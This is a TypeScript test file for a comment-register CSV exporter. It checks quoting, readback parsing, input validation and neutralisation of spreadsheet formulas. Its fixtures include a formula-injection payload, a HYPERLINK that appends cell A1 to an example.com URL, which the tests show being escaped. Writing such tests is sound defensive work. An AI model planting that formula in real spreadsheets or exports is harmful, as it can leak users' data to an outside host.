import { describe, expect, it } from 'vitest';

import { registerHeading, registerRow, registerRows } from '../../testing/index.js';
import { csvCell, registerCsv } from './register-csv.js';
import { RegisterInputError } from './register-input.js';

const HEADER = 'No.,Paragraph,Type,Author,Text,Disposition,Decided by,Date,Reason\r\n';

/** The CSV's records read back by a small RFC 4180 reader, so escaping is checked both ways. */
function parseCsv(csv: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const char = csv.charAt(at);
    if (quoted) {
      if (char === '"' && csv[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\r' && csv[at + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      at += 1;
    } else cell += char;
  }
  expect(quoted, 'a quoted cell is left open').toBe(false);
  expect(`${record.join('')}${cell}`, 'text after the last CRLF').toBe('');
  return records;
}

function thrownBy(run: () => unknown): unknown {
  try {
    run();
  } catch (error) {
    return error;
  }
  throw new Error('expected a throw, got none');
}

describe('registerCsv', () => {
  it('writes a byte order mark, a header row and one CRLF-ended record per item', () => {
    const csv = registerCsv([registerRow()], registerHeading());
    expect(csv).toBe(
      `\uFEFF${HEADER}1,8.2.1.1,comment,Ana Silva,Please cite the Council decision that set these deadlines.,open,,,\r\n`,
    );
  });

  it('writes only the header row for a document nobody commented on', () => {
    expect(registerCsv([], registerHeading())).toBe(`\uFEFF${HEADER}`);
  });

  it('quotes cells with commas, quotes and line breaks, doubling the quotes', () => {
    expect(csvCell('decisions, and lines')).toBe('"decisions, and lines"');
    expect(csvCell('the "WSIS Action Lines"')).toBe('"the ""WSIS Action Lines"""');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
    expect(csvCell('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('')).toBe('');
  });

  it('prefixes a cell a spreadsheet would run as a formula with an apostrophe', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+33 1 23')).toBe("'+33 1 23");
    expect(csvCell('-withdrawn')).toBe("'-withdrawn");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
    // Only the first character counts: inside a sentence these are text.
    expect(csvCell('a = b + c - d @ e')).toBe('a = b + c - d @ e');
  });

  it('reads back as the rows it was given, every value as the JSON answer has it', () => {
    const rows = registerRows();
    const records = parseCsv(registerCsv(rows, registerHeading()).slice(1));
    expect(records[0]?.join(',')).toBe(HEADER.trimEnd());
    expect(records.slice(1)).toEqual(
      rows.map((row) =>
        [
          String(row.number),
          row.paragraph ?? '',
          row.type,
          row.author,
          row.text,
          row.disposition,
          row.decidedBy ?? '',
          row.decidedAt ?? '',
          row.reason ?? '',
        ].map((value) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value)),
      ),
    );
    expect(records[5]?.[4]).toBe('\'=HYPERLINK("http://example.com/?"&A1,"details")');
    expect(records[4]?.[4]).toBe('The heading should name the meeting.\nSee the previous summary.');
  });

  it('refuses a row with an unknown disposition or a date that is not one, naming the row', () => {
    const bad = [
      registerRow(),
      registerRow({ number: 2, disposition: 'maybe' as 'open' }),
      registerRow({ number: 3, decidedAt: 'yesterday' }),
    ];
    const error = thrownBy(() => registerCsv(bad, registerHeading()));
    expect(error).toBeInstanceOf(RegisterInputError);
    expect((error as RegisterInputError).code).toBe('invalid_register');
    expect((error as Error).message).toContain(
      "registerCsv: the register cannot be exported: row 2 (No. 2): disposition 'maybe' is not one of open, accepted, rejected, noted, resolved",
    );
    expect((error as Error).message).toContain("row 3 (No. 3): decidedAt 'yesterday'");
    expect((error as Error).message).not.toContain('row 1');
  });
});
